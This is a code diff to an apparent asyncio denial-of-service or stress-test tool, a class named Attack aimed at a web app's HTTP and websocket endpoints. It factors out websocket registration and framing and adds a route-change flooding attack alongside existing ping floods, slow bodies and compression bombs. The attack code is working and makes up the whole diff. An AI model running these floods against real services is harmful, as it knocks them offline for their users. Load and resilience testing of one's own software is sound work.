@@ -139,21 +139,24 @@ class Attack:
                 await self.post("/api/exchange", bomb)
         await self.many(8, send)
 
-    async def unread_pongs(self) -> None:
-        handshake = self.head(
+    async def page(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """A page of the app that has registered."""
+        reader, writer = await self.line()
+        writer.write(self.head(
             "GET", "/ws", "Upgrade: websocket", "Connection: Upgrade",
             f"Origin: {self.address.geturl()}", "Sec-WebSocket-Version: 13",
-            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")
+            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="))
+        await reader.readuntil(b"\r\n\r\n")
+        writer.write(frame(MessageAction.REGISTER_CLIENT, {
+            "session_id": None, "page_name": "", "page": {"route": "/"}}))
+        return reader, writer
+
+    async def unread_pongs(self) -> None:
         ping = b"\x89\xfd\0\0\0\0" + b"x" * 125
 
         async def ping_on() -> None:
-            reader, writer = await self.line()
+            reader, writer = await self.page()
             try:
-                writer.write(handshake)
-                await reader.readuntil(b"\r\n\r\n")
-                register = b"\0" + msgpack.packb([MessageAction.REGISTER_CLIENT.value, {
-                    "session_id": None, "page_name": "", "page": {"route": "/"}}])
-                writer.write(b"\x82" + bytes([0x80 | len(register)]) + bytes(4) + register)
                 reader._transport.pause_reading()  # type: ignore[attr-defined]
                 while self.goes_on:
                     writer.write(ping * 500)
@@ -162,6 +165,25 @@ class Attack:
             finally:
                 writer.transport.abort()
         await self.many(24, ping_on)
+
+    async def tapping(self) -> None:
+        """Goes from screen to screen as fast as it is let."""
+        routes = [frame(MessageAction.CONTROL_EVENT, {
+            "target": 1, "name": "route_change", "data": {"route": route}})
+            for route in ("/statistics", "/people", "/stars", "/")]
+
+        async def tap_on() -> None:
+            reader, writer = await self.page()
+            try:
+                reading = asyncio.create_task(reader.read(-1))
+                while self.goes_on and not reading.done():
+                    writer.write(b"".join(routes))
+                    self.sent += len(routes)
+                    await writer.drain()
+                    await asyncio.sleep(0.01)
+            finally:
+                writer.transport.abort()
+        await self.many(4, tap_on)
 
     async def half_bodies(self) -> None:
         async def half() -> None:
@@ -196,7 +218,13 @@ class Attack:
 
 WITHOUT_KEY = ("endless_heads", "unread_answers", "kept_lines", "knocking")
 AS_WATCHER = ("endless_trailers", "endless_bodies", "unread_streams")
-AS_WRITER = ("packed_bombs", "unread_pongs", "half_bodies")
+AS_WRITER = ("packed_bombs", "unread_pongs", "half_bodies", "tapping")
+
+
+def frame(action: MessageAction, body: object) -> bytes:
+    """What a page says, as a short frame."""
+    said = b"\0" + msgpack.packb([action.value, body])
+    return b"\x82" + bytes([0x80 | len(said)]) + bytes(4) + said
 
 
 def main() -> None:
